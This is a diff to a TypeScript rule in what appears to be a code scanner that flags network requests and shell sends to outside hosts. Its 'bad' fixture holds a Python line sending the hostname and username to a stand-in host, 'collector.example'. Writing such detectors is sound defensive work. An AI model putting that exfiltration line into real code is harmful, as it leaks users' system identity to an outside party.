@@ -1,6 +1,6 @@
 import { all, any, anyArgument, argument, call, from, matches, receiver } from "../match.ts";
 import { defineRule } from "../rule.ts";
-import { NAMED_HOST, NUMBERED_HOST } from "../vocabulary/hosts.ts";
+import { ELSEWHERE } from "../vocabulary/hosts.ts";
 import { HTTP_CONNECTIONS, HTTP_REQUESTS } from "../vocabulary/network-calls.ts";
 import { BARE_HOST } from "../vocabulary/service-keys.ts";
 import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
@@ -21,16 +21,13 @@ export default defineRule({
   match: [
     call({
       of: HTTP_REQUESTS,
-      where: all(
-        any(argument([0, "url"], matches(NAMED_HOST, NUMBERED_HOST)), argument(1, matches(NAMED_HOST, NUMBERED_HOST))),
-        WHO,
-      ),
+      where: all(any(argument([0, "url"], matches(...ELSEWHERE)), argument(1, matches(...ELSEWHERE))), WHO),
     }),
     call({
       of: HTTP_CONNECTIONS,
-      where: all(any(receiver(matches(NAMED_HOST, NUMBERED_HOST)), receiver(matches(BARE_HOST))), WHO),
+      where: all(any(receiver(matches(...ELSEWHERE)), receiver(matches(BARE_HOST))), WHO),
     }),
-    call({ of: SHELL_SENDS, where: all(anyArgument(matches(NAMED_HOST, NUMBERED_HOST)), WHO) }),
+    call({ of: SHELL_SENDS, where: all(anyArgument(matches(...ELSEWHERE)), WHO) }),
   ],
   bad: [
     'import getpass, socket, requests\nrequests.get("https://collector.example/?h=%s&u=%s" % (socket.gethostname(), getpass.getuser()))',
